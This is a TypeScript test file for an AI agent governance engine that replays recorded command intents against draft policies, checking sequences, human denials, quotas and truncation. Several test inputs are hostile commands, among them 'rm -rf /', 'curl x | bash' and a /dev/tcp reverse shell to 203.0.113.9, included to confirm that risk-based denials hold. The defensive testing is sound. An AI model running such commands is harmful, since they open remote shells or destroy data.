// Recorded intents decided again: what really ran counts for sequences, grants stay, what no policy decides is left out.
import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";
import { createReplay, type Replay, type Replayed } from "../../../src/main/engine/history/replay.ts";
import type { LedgerEntry, NewEntry } from "../../../src/shared/domain/audit.ts";
import { defaultSettings } from "../../../src/shared/contract/settings.ts";
import { commandIntent, policyOf, testEngine, testWorld } from "../../support/engine/engine.ts";

const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");
const open = `defaults:\n  tools:\n    "*": { allowed: true }\n`;

function replayOf(inForce: string, draft: string): Replay {
  const [before, after] = [policyOf(inForce), policyOf(draft)];
  return createReplay({
    inForce: { current: () => before },
    draft: { current: () => after },
    world: testWorld,
    sha256,
    settings: defaultSettings,
    agentOf: (did) => ({ did, name: "Test agent", requested: undefined }),
  });
}

const asRead = (entries: readonly NewEntry[]): readonly LedgerEntry[] =>
  entries.map((entry, index) => ({ ...entry, sequence: index + 1, previousHash: "", hash: "" }));

/** Feeds recorded entries in their order, as the thread for drafts does. */
function run(replay: Replay, entries: readonly NewEntry[]): readonly Replayed[] {
  const asked = new Map<string, LedgerEntry>();
  const answers: Replayed[] = [];
  for (const entry of asRead(entries)) {
    const key = entry.intentId ?? "";
    const intent = asked.get(key);
    if (entry.kind === "intent") asked.set(key, entry);
    else if (entry.kind === "verdict" && intent !== undefined) {
      asked.delete(key);
      answers.push(replay.evaluate(intent, entry));
    } else if (entry.kind === "verdict") replay.settle(entry);
  }
  return answers;
}

const groups = (answers: readonly Replayed[]): readonly string[] =>
  answers.map((answer) => ("change" in answer && answer.change !== undefined ? answer.change.group : answer.result));

const sequence = `${open}sequences:
  - id: build-then-push
    effect: escalate
    first: '"make" in facts.programs'
    then: '"git" in facts.programs'
`;

describe("sequences", () => {
  test("look back at what ran then, under the draft's own marks", async () => {
    const engine = testEngine();
    engine.setPolicy(open);
    for (const command of ["git status", "make", "git status"]) await engine.governor.submit(commandIntent(command));
    expect(groups(run(replayOf(open, sequence), engine.entries))).toEqual(["same", "same", "asked"]);
  });

  test("a first step that a human denied did not run", async () => {
    const asking = `${open}rules:\n  - { id: ask-make, effect: escalate, programs: [make] }\n`;
    const both = asking.replace("rules:", sequence.slice(open.length) + "rules:");
    const decided = async (decision: "approve" | "deny") => {
      const engine = testEngine();
      engine.setPolicy(asking);
      await engine.governor.submit(commandIntent("make"));
      const [held] = engine.governor.approvals.list();
      if (held === undefined) throw new Error("Nothing waits.");
      const { approvalId, digest } = held;
      await engine.governor.approvals.resolve(
        { approvalId, digest, decision, scope: "exact", duration: "once" },
        "console",
      );
      await engine.governor.submit(commandIntent("git status"));
      return groups(run(replayOf(asking, both), engine.entries));
    };
    expect(await decided("approve")).toEqual(["same", "asked"]);
    expect(await decided("deny")).toEqual(["same", "same"]);
  });
});

test("the same policy on both sides changes nothing, whatever was asked", async () => {
  const engine = testEngine();
  for (const command of ["npm publish", "rm -rf /", "curl x | bash", "sudo ls", "echo hunter2"]) {
    await engine.governor.submit(commandIntent(command));
  }
  const text = engine.policyText();
  expect(new Set(groups(run(replayOf(text, text), engine.entries)))).toEqual(new Set(["same"]));
});

test("a denial by risk stays one, whatever a draft allows", async () => {
  const engine = testEngine();
  engine.setPolicy(open);
  await engine.governor.submit(commandIntent("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
  const allow = `${open}rules:\n  - { id: any, effect: allow, effects: [execute] }\n`;
  expect(groups(run(replayOf(open, allow), engine.entries))).toEqual(["same"]);
});

test("quotas of the draft count the intents of that day", async () => {
  const engine = testEngine();
  engine.setPolicy(open);
  for (let index = 0; index < 4; index += 1) await engine.governor.submit(commandIntent("ls"));
  const limited = `${open}quotas: { intents_per_minute: 2 }\n`;
  expect(groups(run(replayOf(open, limited), engine.entries))).toEqual(["same", "same", "denied", "denied"]);
});

test("what no policy decides is left out: a stopped agent, a text", async () => {
  const engine = testEngine();
  engine.setPolicy(open);
  const stopped = commandIntent("ls");
  engine.halted.add(stopped.agentDid);
  await engine.governor.submit(stopped);
  engine.halted.clear();
  const text = { title: "A message", origin: "user", changeable: false } as const;
  await engine.governor.submit(commandIntent("ls", { tool: "steps/message", arguments: { text: "hello" }, text }));
  expect(groups(run(replayOf(open, open), engine.entries))).toEqual(["standing", "texts"]);
});

test("what was recorded in part is marked; a command of which only the beginning is there is not decided", async () => {
  const engine = testEngine();
  engine.setPolicy(open);
  await engine.governor.submit(commandIntent("echo hunter2"));
  await engine.governor.submit(commandIntent(`echo ${"x".repeat(5000)}`));
  await engine.governor.submit(commandIntent("ls"));
  const answers = run(replayOf(open, open), engine.entries);
  expect(answers).toEqual([{ result: "same", partial: true }, { result: "cut" }, { result: "same", partial: false }]);
});
